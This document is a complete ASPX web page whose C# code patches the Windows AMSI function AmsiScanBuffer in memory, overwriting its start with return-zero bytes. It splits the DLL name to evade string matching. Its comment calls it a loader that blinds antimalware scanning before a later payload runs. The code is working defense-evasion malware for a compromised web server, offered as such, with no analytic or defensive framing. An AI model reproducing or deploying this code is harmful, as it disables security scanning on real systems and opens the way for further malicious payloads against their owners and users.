<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
    // Overwrites the start of the antimalware scan function so every later scan reports "clean";
    // a loader page run once before the real payload.
    [DllImport("kernel32")] static extern IntPtr LoadLibraryA(string n);
    [DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr m, string f);
    [DllImport("kernel32")] static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint p, out uint o);

    void Page_Load(object sender, EventArgs e)
    {
        IntPtr lib = LoadLibraryA("am" + "si.dll");
        IntPtr fn = GetProcAddress(lib, "AmsiScanBuffer");
        uint old;
        VirtualProtect(fn, (UIntPtr)8, 0x40, out old);
        byte[] ret = { 0x31, 0xC0, 0xC3 };
        for (int i = 0; i < ret.Length; i++) Marshal.WriteByte(fn, i, ret[i]);
        VirtualProtect(fn, (UIntPtr)8, old, out old);
        Response.StatusCode = 204;
    }
</script>
